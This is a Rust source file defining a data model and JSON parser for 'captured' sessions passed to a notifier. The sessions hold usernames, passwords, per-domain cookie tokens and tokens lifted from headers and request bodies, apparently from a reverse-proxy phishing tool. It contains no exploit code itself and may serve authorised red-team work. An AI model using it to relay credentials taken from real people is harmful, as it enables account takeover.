//! The captured session record handed to the notifier.
//!
//! Sessions arrive as JSON from the capture side. Every field defaults when absent so
//! partially populated records (no credentials yet, no cookies yet) still dispatch.

use serde::{Deserialize, Serialize};
use std::collections::HashMap;

/// One category of captured artifacts: string keys to arbitrary JSON values.
pub type TokenMap = HashMap<String, serde_json::Value>;

#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
#[serde(default)]
pub struct Session {
    #[serde(alias = "id")]
    pub session_id: String,
    pub username: String,
    pub password: String,
    pub landing_url: String,
    #[serde(alias = "useragent")]
    pub user_agent: String,
    #[serde(alias = "remote_address")]
    pub remote_addr: String,
    pub create_time: i64,
    pub update_time: i64,
    /// Cookie tokens grouped by domain.
    pub tokens: TokenMap,
    /// Tokens lifted from HTTP headers.
    pub http_tokens: TokenMap,
    /// Tokens lifted from request bodies.
    pub body_tokens: TokenMap,
    /// Free-form values recorded by the capture side.
    pub custom: TokenMap,
}

impl Session {
    /// True when both username and password were captured.
    pub fn has_credentials(&self) -> bool {
        !self.username.is_empty() && !self.password.is_empty()
    }

    /// Parse a single session object or an array of sessions.
    pub fn parse_many(json: &str) -> serde_json::Result<Vec<Session>> {
        let value: serde_json::Value = serde_json::from_str(json)?;
        match value {
            serde_json::Value::Array(_) => serde_json::from_value(value),
            other => Ok(vec![serde_json::from_value(other)?]),
        }
    }
}
